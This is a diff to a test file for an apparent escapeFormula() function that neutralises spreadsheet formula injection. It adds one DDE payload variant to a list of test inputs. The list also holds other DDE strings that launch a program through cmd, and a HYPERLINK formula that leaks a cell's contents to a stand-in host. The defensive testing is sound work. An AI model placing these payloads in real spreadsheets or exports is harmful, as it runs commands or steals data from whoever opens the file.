@@ -7,6 +7,7 @@ describe('escapeFormula()', () => {
     `=cmd|' /C calc'!A0`,
     `+cmd|' /C calc'!A0`,
     `-2+3+cmd|' /C calc'!A0`,
+    `-2+3+cmd|" /C calc"!D2`,
     `@SUM(1+1)*cmd|' /C calc'!A0`,
     '=HYPERLINK("http://x.example.com?leak="&A1,"Click")',
     '+HYPERLINK("http://x.example.com")',
